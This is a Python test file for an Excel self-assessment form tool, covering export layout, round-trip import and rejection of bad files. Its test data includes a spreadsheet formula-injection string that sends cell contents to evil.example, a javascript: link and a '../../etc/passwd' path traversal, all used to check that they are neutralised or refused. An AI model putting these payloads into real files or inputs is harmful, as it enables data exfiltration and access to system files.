"""The Excel self-assessment form: export, fill as a provider would, import, bad files."""

from __future__ import annotations

import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from workbench.core.errors import InputFileError, ValidationFailed
from workbench.core.paths import RUBRICS_DIR
from workbench.rubric.model import load_rubric
from workbench.scoring.excelform import (
    COL,
    HEADER_ROW,
    SHEET,
    export_form,
    import_form,
    neutralise_csv,
)
from workbench.scoring.store import LockedError, Store

DATA = Path(__file__).parent / "data" / "scoring"
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'


@pytest.fixture
def rubric():
    return load_rubric(DATA / "mini-rubric.yaml")


@pytest.fixture
def store(tmp_path):
    s = Store(tmp_path / "w.db")
    yield s
    s.close()


def _rows(ws) -> dict[str, int]:
    return {str(ws.cell(r, 1).value): r for r in range(HEADER_ROW + 1, ws.max_row + 1)
            if ws.cell(r, 1).value and "." in str(ws.cell(r, 1).value)}


def _fill(path: Path, out: Path, values: dict[str, dict]) -> Path:
    wb = openpyxl.load_workbook(path)
    ws = wb[SHEET]
    rows = _rows(ws)
    for item_id, cells in values.items():
        for key, value in cells.items():
            ws.cell(rows[item_id], COL[key]).value = value
    wb.save(out)
    return out


def test_export_layout(tmp_path, rubric):
    out = export_form(rubric, "oakwood", "2024-25", tmp_path / "form.xlsx")
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Instructions", "Assessment", "_workbench"]
    assert wb["_workbench"].sheet_state == "veryHidden"
    ws = wb[SHEET]
    assert ws.protection.sheet
    rows = _rows(ws)
    assert list(rows) == ["1.1", "1.2", "2.1", "2.2", "2.3"]
    r = rows["1.1"]
    assert ws.cell(r, COL["text"]).protection.locked
    for key in ("answer", "evidence", "commentary", "action", "owner", "due"):
        assert not ws.cell(r, COL[key]).protection.locked, key
    validations = [dv for dv in ws.data_validations.dataValidation if dv.type == "list"]
    assert validations[0].formula1 == '"Yes,No"'
    assert f"E{r}" in str(validations[0].sqref)
    formulas = [ws.cell(x, COL["answer"]).value for x in range(1, ws.max_row + 1)]
    formulas = [f for f in formulas if isinstance(f, str) and f.startswith("=")]
    assert formulas == ['=COUNTIF(E6:E7,"Yes")', '=COUNTIF(E11:E13,"Yes")', "=SUM(E8,E14)"]
    # rubric text starting with '=' is text, not a formula
    assert ws.cell(rows["2.3"], COL["text"]).data_type == "s"
    meta = dict(wb["_workbench"].iter_rows(values_only=True))
    assert (meta["rubric_id"], meta["rubric_version"], meta["provider"], meta["period"]) == (
        "mini-complaints", "1.0", "oakwood", "2024-25")


def test_round_trip(tmp_path, rubric, store):
    blank = export_form(rubric, "oakwood", "2024-25", tmp_path / "form.xlsx")
    filled = _fill(blank, tmp_path / "filled.xlsx", {
        "1.1": {"answer": "Yes", "evidence": "Policy | https://example.org/policy.pdf\n"
                                             "register:C-2024-017",
                "commentary": INJECTION},
        "1.2": {"answer": "No", "action": "Appoint a lead", "owner": "CEO",
                "due": datetime(2025, 3, 31)},
        "2.1": {"answer": "yes", "evidence": "policies/rca.pdf"},
        "2.2": {"answer": "No", "action": "Weekly review", "owner": "Manager",
                "due": "30/06/2025", "commentary": "-5 days late on average"},
    })
    aid = import_form(filled, "oakwood", store, "provider admin", rubric=rubric)
    saved = store.load(aid)
    assert saved.info.period == "2024-25" and saved.info.provider == "oakwood"
    assert saved.answers() == {"1.1": "yes", "1.2": "no", "2.1": "yes", "2.2": "no"}
    assert [e.target for e in saved.items["1.1"].evidence] == [
        "https://example.org/policy.pdf", "register:C-2024-017"]
    assert saved.items["1.1"].evidence[0].label == "Policy"
    assert saved.items["1.1"].commentary == INJECTION
    assert saved.items["1.2"].action.due == date(2025, 3, 31)
    assert saved.items["2.2"].action.due == date(2025, 6, 30)
    assert {e.who for e in store.history(aid) if e.item_id} == {"provider admin"}
    assert {e.reason for e in store.history(aid) if e.item_id} == {"imported from filled.xlsx"}

    # re-export prefilled: the injected commentary is text, never a formula
    again = export_form(rubric, "oakwood", "2024-25", tmp_path / "again.xlsx", saved)
    ws = openpyxl.load_workbook(again)[SHEET]
    r = _rows(ws)
    cell = ws.cell(r["1.1"], COL["commentary"])
    assert cell.value == INJECTION and cell.data_type == "s"
    assert ws.cell(r["2.2"], COL["commentary"]).data_type == "s"
    sheet_xml = zipfile.ZipFile(again).read("xl/worksheets/sheet2.xml").decode()
    assert "<f>HYPERLINK" not in sheet_xml
    assert ws.cell(r["1.2"], COL["due"]).value == datetime(2025, 3, 31)
    # importing the same again changes nothing
    before = len(store.history(aid))
    import_form(again, "oakwood", store, "provider admin", rubric=rubric)
    assert len(store.history(aid)) == before


def test_bad_file_reports_every_bad_row(tmp_path, rubric, store):
    blank = export_form(rubric, "oakwood", "2024-25", tmp_path / "form.xlsx")
    bad = _fill(blank, tmp_path / "bad.xlsx", {
        "1.1": {"answer": "Maybe"},
        "1.2": {"answer": "No", "action": "Do it"},
        "2.1": {"answer": "Yes", "evidence": "ok | https://x.org\nbad | javascript:alert(1)"},
        "2.2": {"answer": "Yes", "evidence": "../../etc/passwd", "due": "next week"},
    })
    with pytest.raises(ValidationFailed) as info:
        import_form(bad, "oakwood", store, rubric=rubric)
    exc = info.value
    assert exc.exit_code == 1 and "nothing was imported" in str(exc)
    problems = exc.problems
    assert any(p.startswith("row 6, column E (Answer") and "'Maybe'" in p for p in problems)
    assert any(p.startswith("row 7, column I (Action owner)") for p in problems)
    assert any(p.startswith("row 7, column J (Action due date)") for p in problems)
    assert not any(p.startswith("row 7, column H") for p in problems)
    assert any(p.startswith("row 11, column F") and "line 2" in p and "javascript" in p
               for p in problems)
    assert any(p.startswith("row 12, column F") and "leaves the evidence folder" in p
               for p in problems)
    assert any(p.startswith("row 12, column J") and "'next week'" in p for p in problems)
    assert len(problems) == 6
    assert store.assessments() == []


def test_wrong_provider_rubric_or_file(tmp_path, rubric, store):
    form = export_form(rubric, "oakwood", "2024-25", tmp_path / "form.xlsx")
    with pytest.raises(ValidationFailed, match="cannot be imported") as info:
        import_form(form, "elmtree", store, rubric=rubric)
    assert "exported for provider 'oakwood', not 'elmtree'" in info.value.problems[0]
    other = rubric.model_copy(update={"version": "2.0"})
    with pytest.raises(ValidationFailed) as info:
        import_form(form, "oakwood", store, rubric=other)
    assert "version 1.0, not mini-complaints version 2.0" in info.value.problems[0]
    plain = tmp_path / "plain.xlsx"
    openpyxl.Workbook().save(plain)
    with pytest.raises(InputFileError, match="not a self-assessment form"):
        import_form(plain, "oakwood", store, rubric=rubric)
    text = tmp_path / "notes.xlsx"
    text.write_text("hello")
    with pytest.raises(InputFileError, match="cannot be read as an Excel workbook"):
        import_form(text, "oakwood", store, rubric=rubric)
    with pytest.raises(InputFileError, match="not found"):
        import_form(tmp_path / "missing.xlsx", "oakwood", store, rubric=rubric)


def test_moved_or_missing_rows(tmp_path, rubric, store):
    form = export_form(rubric, "oakwood", "2024-25", tmp_path / "form.xlsx")
    wb = openpyxl.load_workbook(form)
    ws = wb[SHEET]
    rows = _rows(ws)
    ws.cell(rows["2.2"], 1).value = "2.1"
    ws.cell(rows["2.3"], 1).value = "9.9"
    wb.save(tmp_path / "moved.xlsx")
    with pytest.raises(ValidationFailed) as info:
        import_form(tmp_path / "moved.xlsx", "oakwood", store, rubric=rubric)
    text = "\n".join(info.value.problems)
    assert "row 12, column A (Item): item 2.1 appears again (first on row 11)" in text
    assert "item 9.9 is not in rubric" in text
    assert "items missing from the sheet: 2.2, 2.3" in text


def test_import_into_finalised_assessment_is_refused(tmp_path, rubric, store):
    aid = store.create_assessment("oakwood", "2024-25", rubric, who="lead")
    for _, item in rubric.items():
        store.save_item(aid, item.id, {"answer": "yes", "evidence": ["register:R"]}, 0, "lead")
    store.finalise(aid, rubric, "lead")
    form = export_form(rubric, "oakwood", "2024-25", tmp_path / "form.xlsx", store.load(aid))
    filled = _fill(form, tmp_path / "f.xlsx", {"1.1": {"commentary": "late"}})
    with pytest.raises(LockedError):
        import_form(filled, "oakwood", store, rubric=rubric)
    assert store.load(aid).items["1.1"].commentary == ""


def test_neutralise_csv():
    assert neutralise_csv("=1+1") == "'=1+1"
    assert neutralise_csv("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise_csv("\tx") == "'\tx"
    assert neutralise_csv("plain") == "plain" and neutralise_csv(3) == 3


def test_real_rubric_form(tmp_path, store):
    path = RUBRICS_DIR / "complaints-handling-self-assessment.yaml"
    if not path.exists():
        pytest.skip(f"{path} not written yet")
    rubric = load_rubric(path)
    form = export_form(rubric, "oakwood", "2024-25", tmp_path / "form.xlsx")
    ws = openpyxl.load_workbook(form)[SHEET]
    assert len(_rows(ws)) == 85
    values = {item.id: {"answer": "Yes", "evidence": "register:R-1"} for _, item in rubric.items()}
    values["5.1"] = {"answer": "No", "action": "RCA on every upheld complaint", "owner": "QA",
                     "due": datetime(2025, 9, 30)}
    aid = import_form(_fill(form, tmp_path / "f.xlsx", values), "oakwood", store,
                      rubric=rubric)
    from workbench.scoring.assessment import finalise_problems, scores

    assert str(scores(rubric, store.load(aid))) == "84/85"
    assert finalise_problems(rubric, store.load(aid)) == []
